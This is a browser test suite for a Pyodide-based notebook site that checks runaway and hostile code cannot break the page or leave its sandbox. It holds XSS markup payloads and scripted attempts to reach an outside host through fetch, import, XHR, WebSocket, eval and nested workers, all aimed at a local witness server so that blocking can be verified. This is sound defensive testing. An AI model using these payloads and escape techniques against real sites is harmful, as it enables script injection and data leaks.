"""Code that means ill, or is only out of hand: what becomes of it, and that the page goes on.

An endless loop, also one that catches everything, is in test_cells.py; a link with broken content
and a browser that keeps nothing are in test_progress.py.
"""

# Past 400 lines: one attacker's cell after another, each against the same open page.

import contextlib
import http.server
import json
import threading

import pytest

from tests.browser.conftest import visiting
from tests.browser.test_pages import html_files
from tests.browser.test_progress import counts, packed, solve

GALLERY = "gallery/"
HOSTS = ["isolated", "plain"]  # with our headers, and without any


def write(page, cell: str, code: str) -> None:
    """Replace a cell's code as a reader would."""
    section = page.locator(f"#cell-{cell}")
    section.locator(".src, .editor").locator("visible=true").first.click()
    section.locator(".cm-content").wait_for()
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.insert_text(code)


@pytest.fixture
def run(settle, outputs):
    """`run(page, code)` in the cell `value` -> its outputs."""

    def write_and_run(page, code: str, *states: str, cell: str = "value"):
        write(page, cell, code)
        page.keyboard.press("Shift+Enter")
        settle(page, cell, *(states or ("done", "error")))
        return outputs(page, cell)

    return write_and_run


def open_ready(visit, address: str, settle):
    """A page whose first cell has run; what it made must outlast everything."""
    page = visit(address, hostile=True)
    write(page, "warm", "kept = 41")
    page.keyboard.press("Shift+Enter")
    settle(page, "warm", "done")
    return page


@pytest.fixture(scope="module")
def tabs(chromium, playwright, tmp_path_factory):
    """A page on each kind of host, shared by the tests: each leaves it as it was."""
    opened = {}
    with visiting(chromium, playwright, tmp_path_factory.mktemp("profile")) as visit:

        def tab(address: str, settle):
            if address not in opened:
                opened[address] = open_ready(visit, address, settle)
            return opened[address]

        yield tab


@pytest.fixture
def tab(tabs, isolated, settle, run):
    page = tabs(isolated + GALLERY, settle)
    yield page
    goes_on(page, run)


def goes_on(page, run) -> None:
    """Without a reload the page runs code, and the names of its other cells are there."""
    assert run(page, "kept + 1") == [{"kind": "value", "text": "42"}]


def say(page) -> str:
    return page.locator("#cell-value .say").inner_text()


# --- out of hand ----------------------------------------------------------------------------------


@pytest.mark.parametrize("host", HOSTS)
def test_a_long_call_into_c_is_stopped(tabs, request, settle, run, host):
    page = tabs(request.getfixturevalue(host) + GALLERY, settle)
    write(page, "value", "print('before')\nsum(iter(int, 1))  # for ever, and hears no interrupt")
    page.keyboard.press("Shift+Enter")
    page.locator("#cell-value .out pre.text", has_text="before").wait_for()
    page.locator("#cell-value button.run").click()
    settle(page, "value", "stopped")
    assert "stopped it after" in say(page)
    goes_on(page, run)


def test_a_runaway_allocation_ends_in_a_memory_error_and_a_restart_gives_it_back(tab, settle, run):
    [error] = run(tab, "held = []\nwhile True:\n    held.append(bytearray(10_000_000))")
    assert (error["type"], error["line"]) == ("MemoryError", "3")
    assert "too large for this page" in tab.inner_text("#cell-value .help")
    tab.get_by_role("button", name="Restart").click()
    assert run(tab, "kept = 41", cell="warm") == []
    assert run(tab, "len(bytearray(200_000_000))") == [{"kind": "value", "text": "200000000"}]


def test_a_recursion_without_end_is_an_error_with_a_word_of_help(tab, run):
    [error] = run(tab, "def f(n):\n    return f(n + 1)\nf(0)")
    assert (error["type"], error["line"]) == ("RecursionError", "2")
    assert "Which case should stop it?" in tab.inner_text("#cell-value .help")


@pytest.mark.parametrize(
    "code",
    [
        pytest.param(
            "import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1)\nf(0)",
            id="recursion beyond the stack",
        ),
        pytest.param("import os\nos.abort()", id="abort"),
        pytest.param("import ctypes\nctypes.string_at(2**32 - 16, 64)", id="memory of nobody"),
        pytest.param(
            "import ctypes\nctypes.CDLL(None).emscripten_run_script(b'1')", id="JavaScript from C"
        ),
        pytest.param("import builtins\nbuiltins.isinstance = None", id="what the kernel needs"),
    ],
)
def test_a_crash_is_told_at_its_cell_and_the_other_cells_run_again(tab, run, code):
    [crash] = run(tab, code, "error")
    assert crash["message"].startswith("Python crashed. It was started again, without this cell.")
    tab.locator("#cell-value .say", has_text="the other cells ran again").wait_for()


def as_the_kernel(output) -> str:
    """Code that sends this to the page in the kernel's name."""
    return f"__import__('sys').stdout._emit({output!r})"


def test_a_million_lines_are_cut_and_can_be_downloaded(tab, run, tmp_path):
    [text, cut] = run(tab, "for n in range(1_000_000):\n    print(n)")
    assert text["text"].splitlines() == [str(n) for n in range(300)]
    assert cut["text"].startswith("The rest of this output is left out")
    with tab.expect_download() as download:
        tab.get_by_role("button", name="Download all of it").click()
    assert download.value.suggested_filename == "output.txt"
    file = tmp_path / "output.txt"
    download.value.save_as(file)
    assert file.read_text() == "".join(f"{n}\n" for n in range(1_000_000))


def test_figures_and_tables_without_end_are_cut(tab, run):
    table = {"kind": "html", "html": "<b>b</b>", "text": "b"}
    shown = run(tab, f"for n in range(2000):\n    {as_the_kernel(table)}")
    assert [each["kind"] for each in shown] == ["html"] * 100 + ["cut"]


def test_an_array_of_100_mb_is_shown_short(tab, run):
    [value] = run(tab, "import numpy as np\nnp.zeros(12_500_000)")
    assert value["text"] == "array([0., 0., 0., ..., 0., 0., 0.], shape=(12500000,))"


def test_a_text_of_100_mb_is_cut(tab, run):
    value, cut = run(tab, "'x' * 100_000_000")
    assert (len(value["text"]), cut["kind"]) == (30_000, "cut")


def test_names_that_were_overwritten_are_an_error_and_a_restart_brings_them_back(tab, run):
    taken = "import builtins\nimport numpy as np\nbuiltins.print = np.mean = np = None"
    assert run(tab, taken) == []
    for use in ("print(1)", "np.zeros(2)"):
        [error] = run(tab, use)
        assert error["type"] in {"TypeError", "AttributeError"}
    tab.get_by_role("button", name="Restart").click()
    assert run(tab, "kept = 41", cell="warm") == []
    shown = run(tab, "import numpy as np\nprint(np.mean([1, 3]))")
    assert shown == [{"kind": "text", "text": "2.0\n"}]


def test_two_tabs_have_a_python_each_and_lose_nothing_of_what_is_kept(visit, isolated, run):
    one = visit(isolated + GALLERY)
    other = one.context.new_page()
    other.goto(one.url)
    solve(one)
    other.locator("#predict-colder label", has_text="It falls").click()
    for page in (one, other):
        counts(page, "1 of 2 exercises, 1 of 3 predictions")
    for page, name in ((one, "one"), (other, "other")):
        assert run(page, f"mine = '{name}'", cell="warm") == []
    assert [run(page, "mine")[0]["text"] for page in (one, other)] == ["'one'", "'other'"]
    one.reload()
    counts(one, "1 of 2 exercises, 1 of 3 predictions")


def test_a_tab_that_was_asleep_shows_what_came_meanwhile_and_can_still_stop(tab, settle, run):
    asleep = tab.context.new_cdp_session(tab)
    write(tab, "value", "import time\nprint('before')\ntime.sleep(0.2)\n'after'")
    tab.keyboard.press("Shift+Enter")
    tab.locator("#cell-value .out pre.text", has_text="before").wait_for()
    asleep.send("Page.setWebLifecycleState", {"state": "frozen"})
    [worker] = tab.workers
    worker.evaluate("1")  # answers when the cell has ended
    asleep.send("Page.setWebLifecycleState", {"state": "active"})
    settle(tab, "value", "done")
    assert run(tab, "'after'")[-1]["text"] == "'after'"
    write(tab, "value", "print('before')\nwhile True: pass")
    tab.keyboard.press("Shift+Enter")
    tab.locator("#cell-value .out pre.text", has_text="before").wait_for()
    for state in ("frozen", "active"):
        asleep.send("Page.setWebLifecycleState", {"state": state})
    tab.locator("#cell-value button.run").click()
    settle(tab, "value", "stopped")


def test_a_full_storage_is_told_and_what_comes_after_there_is_room_is_kept(visit, isolated):
    page = visit(isolated + GALLERY)
    page.evaluate("""() => {
      for (let size = 2 ** 23; size >= 1; size /= 2) {
        try { for (let n = 0; ; n++) localStorage.setItem(`other-${size}-${n}`, "x".repeat(size)); }
        catch {}
      }
    }""")
    solve(page)
    page.locator(".meta .trouble", has_text="no more room").wait_for()
    page.evaluate("""() => {
      const others = Object.keys(localStorage).filter(key => key.startsWith("other-"));
      for (const key of others) localStorage.removeItem(key);
    }""")
    page.locator("#predict-colder label", has_text="It falls").click()
    page.locator(".meta .trouble", has_text="no more room").wait_for(state="detached")
    page.reload()
    counts(page, "1 of 2 exercises, 1 of 3 predictions")


# --- hostile --------------------------------------------------------------------------------------

MARKUP = (
    '<b onclick="taken()" data-md-component="search">b</b><script>taken()</script>'
    '<img src="{host}image.png" onerror="taken()"><svg><image href="{host}image.svg"/></svg>'
    '<a href="javascript:taken()">a</a><i style="background:url({host}style.png)">i</i>'
    '<iframe src="{host}"></iframe><style>@import "{host}style.css"</style>'
)
CLEAN = "<b>b</b><svg><image></image></svg><a>a</a><i>i</i>"


@contextlib.contextmanager
def listening():
    """(address of another host, the paths that it was asked for); it lets everyone in."""
    asked = []

    class Witness(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path.strip("/"))
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Witness) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


@pytest.fixture
def foreign():
    with listening() as found:
        yield found


@pytest.mark.parametrize("through", ["a value", "the back door"])
def test_html_from_a_cell_can_only_show(tab, run, foreign, through):
    host, asked = foreign
    markup = MARKUP.format(host=host)
    if through == "a value":
        code = f"class Page:\n    def _repr_html_(self):\n        return {markup!r}\nPage()"
    else:  # past the kernel's own sanitizer
        output = {"kind": "html", "html": markup, "text": ""}
        code = as_the_kernel(output)
    run(tab, code, "done")
    shown = tab.inner_html("#cell-value .rich")
    assert shown.replace(' href=""', "") == (CLEAN if through == "the back door" else shown)
    for word in ("script", "taken", "data-", host, "iframe", "style"):
        assert word not in shown
    assert tab.evaluate("window.taken") is None
    assert asked == []


def test_a_worker_that_sends_what_is_no_report_is_ended(tab, run):
    for output in ({"kind": "figure"}, {"kind": "movie", "frames": 3}, {"kind": "nothing"}, {}):
        [crash] = run(tab, f"{as_the_kernel(output)}\nwhile True: pass")
        assert crash["message"].startswith("Python crashed.")
        goes_on(tab, run)


def test_a_link_with_hostile_code_is_text_until_the_reader_runs_it(visit, isolated):
    code = "</code><img src=x onerror=taken()><script>taken()</script>"
    page = visit(isolated + GALLERY + packed(json.dumps({"value": code})))
    page.locator(".guest", has_text="One cell holds code").wait_for()
    page.locator("#cell-value .cm-content").wait_for()
    assert page.locator("#cell-value .cm-content").inner_text().strip() == code
    assert page.locator("#cell-value img, #cell-value .editor script").count() == 0
    assert page.locator("section.cell:not([data-state=idle])").count() == 0


# What a hostile cell tries, in Python: name -> what it got, or the error that it met.
TRIES = """
import asyncio, json, js, pyodide.code, pyodide.http, pyodide_js, socket, urllib.request
HOST = {host!r}
got = {{}}

def attempt(name, act):
    try:
        got[name] = repr(act())
    except BaseException as error:
        got[name] = type(error).__name__

def chain(thing):
    while thing:
        yield thing
        thing = js.Object.getPrototypeOf(thing)

def everywhere(thing):
    return {{str(key) for part in chain(thing) for key in js.Object.getOwnPropertyNames(part)}}

for name in {gone!r}:
    attempt(name, lambda: getattr(js, name))
for name in {of_navigator!r}:
    attempt("navigator." + name, lambda: getattr(js.navigator, name))
attempt("run_js", lambda: pyodide.code.run_js("1"))
attempt("import", lambda: pyodide.code.run_js("import(" + json.dumps(HOST + "import") + ")"))
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("constructor", lambda: js.setTimeout.constructor("return 1")())
attempt("importScripts", lambda: js.importScripts(HOST + "importScripts"))
attempt("open_url", lambda: pyodide.http.open_url(HOST + "open_url"))
attempt("urllib", lambda: urllib.request.urlopen(HOST + "urllib"))
attempt("socket", lambda: socket.create_connection(("127.0.0.1", int(HOST.split(":")[2][:-1])), 1))
js.setTimeout("fetch(" + json.dumps(HOST + "timeout") + ")")
later = []
for ask in (pyodide_js.loadPackage, pyodide.http.pyfetch):
    task = asyncio.ensure_future(ask(HOST + "later.whl"))
    task.add_done_callback(lambda task: later.append(str(task.exception())))
js.fetch(HOST + "fetch").then(lambda r: later.append("got"), lambda e: later.append(str(e)))
js.fetch("../").then(lambda r: later.append("got"), lambda e: later.append(str(e)))
print(json.dumps([got, sorted(everywhere(js.globalThis)), sorted(everywhere(js.navigator))]))
"""
OF_WORKER = """document window localStorage sessionStorage indexedDB caches cookieStore Worker
    SharedWorker BroadcastChannel WebSocket WebSocketStream EventSource WebTransport XMLHttpRequest
    FontFace fonts FileReader OffscreenCanvas Notification webkitRequestFileSystem postMessage
    close"""
OF_NAVIGATOR = "storage storageBuckets locks serviceWorker permissions usb gpu"


@pytest.mark.parametrize("host", HOSTS)
def test_a_hostile_cell_finds_no_way_out_of_the_worker(tabs, request, settle, run, foreign, host):
    page = tabs(request.getfixturevalue(host) + GALLERY, settle)
    page.evaluate("document.cookie = 'secret=1'")
    away, asked = foreign
    gone, of_navigator = OF_WORKER.split(), OF_NAVIGATOR.split()
    code = TRIES.format(host=away, gone=gone, of_navigator=of_navigator)
    [said, *_] = run(page, code, "done")
    got, there, navigator = json.loads(said["text"])
    allowed = {name for name in got if not got[name].endswith(("Error", "Exception"))}
    assert allowed == set(), {name: got[name] for name in allowed}
    assert not {*gone} & {*there}
    assert not {*of_navigator} & {*navigator}
    assert {"Array", "setTimeout"} <= {*there}  # it did look
    [later, *_] = run(page, "' '.join(later)", "done")
    assert later["text"].count("is no file of this course") >= 2, later
    assert "got" not in later["text"], later
    assert asked == []
    goes_on(page, run)


# What code could try that had the whole of a worker: from a blob: address, as ours begins.
WORKER = """host => new Promise(done => {
  const source = `
    const host = ${JSON.stringify(host)};
    const open = it => new Promise(end => it.onopen = it.onmessage = it.onerror = end);
    const ask = "fetch(" + JSON.stringify(host + "nested") + ")";
    const nested = () => open(new Worker(URL.createObjectURL(new Blob(
      [ask + ".catch(Object).then(() => postMessage(1))"]))));
    const tries = {
      fetch: () => fetch(host + "fetch"),
      import: () => import(host + "import"),
      xhr: () => {
        const ask = new XMLHttpRequest();
        ask.open("GET", host + "xhr", false);
        ask.send();
      },
      socket: () => open(new WebSocket(host.replace("http", "ws") + "socket")),
      events: () => open(new EventSource(host + "events")),
      font: () => new FontFace("f", "url(" + host + "font)").load(),
      nested,
      eval: () => (0, eval)("1"),
      data: () => import("data:text/javascript,1"),
    };
    const went = [];
    for (const [name, act] of Object.entries(tries)) {
      try { await act(); went.push(name); } catch {}
    }
    postMessage(went);`;
  const blob = new Blob([source], {type: "text/javascript"});
  new Worker(URL.createObjectURL(blob), {type: "module"}).onmessage = ({data}) => done(data);
})"""
ASKED = {"fetch", "import", "xhr", "socket", "events", "font", "nested"}


@pytest.mark.parametrize("host", HOSTS)
def test_a_worker_has_the_policy_of_its_page_and_reaches_no_other_host(
    chromium, request, foreign, host
):
    away, asked = foreign
    context = chromium.new_context()
    page = context.new_page()
    page.goto(request.getfixturevalue(host) + "notation/")
    went = page.evaluate(WORKER, away)
    assert not {"fetch", "import", "xhr", "font", "eval", "data"} & {*went}
    assert asked == []
    context.close()


def test_without_the_policy_the_same_worker_would_reach_it(chromium, foreign):
    away, asked = foreign
    with listening() as (bare, _):
        context = chromium.new_context()
        page = context.new_page()
        page.goto(bare + "page")  # which has no policy
        went = page.evaluate(WORKER, away)
        context.close()
    assert {"fetch", "import", "xhr", "eval", "data"} <= {*went}
    assert {*asked} >= ASKED


@pytest.mark.parametrize("host", HOSTS)
def test_what_is_left_of_import_and_fetch_in_pythons_worker_reaches_no_other_host(
    tabs, request, settle, foreign, host
):
    page = tabs(request.getfixturevalue(host) + GALLERY, settle)
    away, asked = foreign
    [worker] = [each for each in page.workers if each.url.startswith("blob:")]
    met = "error => String(error)"
    assert "TypeError" in worker.evaluate(f"import({away + 'import'!r}).catch({met})")
    assert "no file of this course" in worker.evaluate(f"fetch({away + 'fetch'!r}).catch({met})")
    assert asked == []


# --- the policy -----------------------------------------------------------------------------------

VIOLATIONS = """addEventListener("securitypolicyviolation", event => {
  (window.violations ??= []).push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
})"""


@pytest.mark.parametrize("host", HOSTS)
def test_every_page_satisfies_the_policy(chromium, request, site, host):
    address = request.getfixturevalue(host)
    context = chromium.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    for place in html_files(site):
        page.goto(address + place, wait_until="load")
        policy = page.locator("head > meta[http-equiv=Content-Security-Policy]")
        if place != "404.html":  # its addresses are those of the published site
            assert page.evaluate("window.violations") is None, place
        assert policy.count() == 1, place
    page.goto(address + GALLERY)
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {text: '1'}))"
    )
    assert "inline" in page.evaluate("window.violations[0]")  # it does listen
    context.close()
